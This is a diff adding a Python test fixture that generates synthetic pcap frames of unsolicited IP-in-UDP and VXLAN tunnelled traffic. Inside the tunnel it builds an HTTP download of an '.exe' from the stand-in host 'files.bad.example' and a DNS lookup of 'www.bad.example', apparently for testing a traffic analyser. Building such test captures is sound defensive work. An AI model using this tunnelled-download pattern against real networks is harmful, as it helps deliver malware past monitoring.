@@ -1654,6 +1654,34 @@ def two_readings():
     done(Decoys(32, 40032).opened().say(decoy[:50]).say(decoy[50:], off=50).say(decoy), len(decoy))
     return every(1795614000 * SECOND, SECOND // 8, frames)
 
+@capture()
+def unasked_tunnel():
+    """IP in UDP and VXLAN, on ports of anybody's choice, from one sender outside who was never
+    answered, with both sides of what is inside; one is a lookup, of whose address the user then
+    knows nothing.
+    """
+    def sent(payload):
+        return ether(mac(1), mac(2), ip4("203.0.113.9", "10.0.0.5", UDP, udp(5555, 1111, payload)))
+
+    def inside(packet):
+        return struct.pack(">II", 0x08000000, 0) + ether(mac(5), mac(6), packet)
+
+    download = request("/a.exe", "files.bad.example")
+    frames = [sent(packet) for _, packet in http_connection(
+        "10.0.0.77", "192.0.2.66", 41000, download)]
+    frames += [sent(inside(packet)) for _, packet in http_connection(
+        "10.0.0.78", "192.0.2.66", 41001, download)]
+    site = question("www.bad.example", 1)
+    frames += [
+        sent(ip4("10.0.0.77", "10.0.0.53", UDP, udp(41002, 53, dns(
+            1, 0x0100, (1, 0, 0, 0), site)))),
+        sent(ip4("10.0.0.53", "10.0.0.77", UDP, udp(53, 41002, dns(
+            1, 0x8180, (1, 1, 0, 0), site, record(pointer(12), 1, 1, 300, addr("192.0.2.99"))))))]
+    frames += [
+        ether(mac(1), mac(2), ip4("10.0.0.77", "192.0.2.99", UDP, udp(41003, 7000, b"hello"))),
+        ether(mac(2), mac(1), ip4("192.0.2.99", "10.0.0.77", UDP, udp(7000, 41003, b"hello")))]
+    return every(1770006700 * SECOND, SECOND // 10, frames)
+
 
 def check(taken):
     wrong = [f"{one}.pcap is not what make.py makes" for one in taken
